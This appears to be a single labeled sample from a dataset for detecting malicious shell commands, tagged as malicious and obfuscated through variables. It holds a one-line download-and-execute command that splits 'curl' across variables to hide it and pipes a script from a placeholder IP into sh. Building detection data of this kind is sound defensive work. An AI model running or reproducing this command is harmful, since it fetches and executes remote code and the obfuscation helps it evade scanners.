# label: malicious; obfuscated: variables
u=http://203.0.113.9/x.sh
c=cu; d=rl
$c$d -s $u | sh
